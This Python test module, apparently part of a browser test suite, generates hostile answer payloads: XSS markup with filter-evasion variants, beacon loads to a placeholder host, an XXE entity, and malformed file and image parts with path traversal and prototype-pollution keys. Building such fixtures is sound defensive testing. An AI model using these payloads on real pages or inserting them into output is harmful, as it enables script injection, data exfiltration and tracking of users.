"""Answers that try to run script, to call home when shown, or to deceive; all of our own making."""

import itertools
from collections.abc import Iterator
from typing import Any

from tests.browser.hostile import addresses, passages
from tests.browser.hostile.words import BEACON, CALL, HTML, SVG, to_base64


def payloads() -> list[str]:
    """Every hostile text once, in a fixed order."""
    made = itertools.chain(
        _elements(),
        addresses.addresses(),
        addresses.pictures(),
        addresses.references(),
        passages.codes(),
        passages.formulas(),
        passages.characters(),
        passages.nests(),
        passages.styles(),
    )
    return list(dict.fromkeys(made))


def _elements() -> Iterator[str]:
    """Markup that runs or loads, and ways to write it so that a filter would miss it."""
    handlers = [
        f"<img src=x onerror={CALL}>",
        f'<img src="x" onerror="{CALL}" />',
        f"<IMG SRC=x ONERROR={CALL}>",
        f"<img/src=x/onerror={CALL}>",
        f"<img src=x onerror\n=\n{CALL}>",
        f"<img src=`x`onerror={CALL}>",
        f"<img src=//{BEACON}/pixel.gif width=1 height=1>",
        f"<img srcset='//{BEACON}/set 2x'>",
        f"<picture><source srcset=//{BEACON}/source><img></picture>",
        f"<svg onload={CALL}>",
        f"<svg/onload={CALL}//",
        f"<svg><script>{CALL}</script></svg>",
        f"<svg><script href=//{BEACON}/svg.js></script></svg>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to=javascript:{CALL}><a><text y=20>go</text></a></svg>",
        f"<svg><use href='data:image/svg+xml;base64,{to_base64(SVG)}#x'></use></svg>",
        f"<svg><image href=//{BEACON}/svgimage></image></svg>",
        f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
        f"<math href='javascript:{CALL}'>go</math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={CALL}></annotation-xml></math>",
        f"<body onload={CALL}>",
        f"<body background=//{BEACON}/background>",
        f"<iframe src=javascript:{CALL}></iframe>",
        f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
        f"<iframe src=//{BEACON}/iframe></iframe>",
        f"<frameset onload={CALL}><frame src=//{BEACON}/frame></frameset>",
        f"<object data=javascript:{CALL}></object>",
        f"<object data=//{BEACON}/object></object>",
        f"<embed src=//{BEACON}/embed>",
        f"<applet code={BEACON}></applet>",
        f"<video src=//{BEACON}/video autoplay onerror={CALL}></video>",
        f"<video poster=//{BEACON}/poster></video>",
        f"<audio src=//{BEACON}/audio autoplay oncanplay={CALL}></audio>",
        f"<video><track src=//{BEACON}/track default></video>",
        f"<input autofocus onfocus={CALL}>",
        f"<input type=image src=//{BEACON}/input>",
        f"<select autofocus onfocus={CALL}></select>",
        f"<textarea autofocus onfocus={CALL}></textarea>",
        f"<button formaction=javascript:{CALL}>go</button>",
        f"<form action=//{BEACON}/form><button autofocus>go</button></form>",
        f"<details open ontoggle={CALL}><summary>go</summary></details>",
        f"<dialog open onclose={CALL}><form method=dialog><button>go</button></form></dialog>",
        f"<marquee onstart={CALL}>go</marquee>",
        f"<p onmouseover={CALL}>go</p>",
        f"<div onpointerenter={CALL}>go</div>",
        f"<a href=javascript:{CALL}>go</a>",
        f"<a href=//{BEACON}/ping ping=//{BEACON}/ping>go</a>",
        f"<base href=//{BEACON}/>",
        f"<link rel=stylesheet href=//{BEACON}/style.css>",
        f"<link rel=prefetch href=//{BEACON}/prefetch>",
        f"<link rel=preconnect href=//{BEACON}>",
        f"<link rel=dns-prefetch href=//{BEACON}>",
        f"<link rel=modulepreload href=//{BEACON}/module.js>",
        f"<meta http-equiv=refresh content='0;url=//{BEACON}/refresh'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        f"<script>{CALL}</script>",
        f"<script src=//{BEACON}/script.js></script>",
        f"<script type=module>import '//{BEACON}/module.js'</script>",
        f"<script\x0c>{CALL}</script>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
        f"<template><script>{CALL}</script></template>",
        f"<template shadowrootmode=open><script>{CALL}</script></template>",
        f"<xmp><img src=x onerror={CALL}></xmp>",
        f"<plaintext><img src=x onerror={CALL}>",
        f"<!--><img src=x onerror={CALL}>-->",
        f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
        f"<![CDATA[<img src=x onerror={CALL}>]]>",
        f"<?xml-stylesheet href='javascript:{CALL}'?>",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM 'http://{BEACON}/entity'>]><x>&e;</x>",
        f"</div></pairvote-compare><img src=x onerror={CALL}>",
        f"<slot name=heading onslotchange={CALL}>",
        f"<x-y is=script onfocus={CALL} tabindex=0 autofocus>",
        f"<pairvote-compare ticket=x endpoint=//{BEACON}/v1></pairvote-compare>",
        f"&lt;img src=x onerror={CALL}&gt;",
        f"&#60;img src=x onerror={CALL}&#62;",
        f"\\<img src=x onerror={CALL}\\>",
        f"\uff1cimg src=x onerror={CALL}\uff1e",
    ]
    yield from handlers
    # The same where Markdown treats its text otherwise.
    for frame in (
        "> {}",
        "- {}",
        "# {}",
        "**{}**",
        "|a|\n|-|\n|{}|",
        "[{}](https://a.example)",
        "![{}](https://a.example/x.png)",
    ):
        yield from (frame.format(markup) for markup in handlers[:10])


def parts() -> list[list[dict[str, Any]]]:
    """Contents as parts, whose members try the same."""
    names = ["a\u202egnp.exe", f'"><img src=x onerror={CALL}>', "../../etc/passwd", "a.html", "x" * 4_000]
    files = [
        {"type": "file", "file": {"filename": name, "file_data": f"data:text/html;base64,{to_base64(HTML)}"}}
        for name in names
    ]
    images = [
        {"type": "image_url", "image_url": {"url": address}}
        for address in (
            *addresses.SCHEMES,
            f"https://{BEACON}/part.png",
            "upload:upl_<img>",
            "upload:../../v1/ticket",
        )
    ]
    odd: list[dict[str, Any]] = [
        {"type": "input_audio", "input_audio": {"data": to_base64(HTML), "format": "html"}},
        {"type": "input_audio", "input_audio": {"data": "%%%", "format": f'"><img src=x onerror={CALL}>'}},
        {"type": "<script>", "text": CALL},
        {"type": "__proto__"},
        {"type": "image_url"},
        {"type": "file", "file": {}},
        {"type": "text"},
    ]
    return [[part] for part in (*files, *images, *odd)]
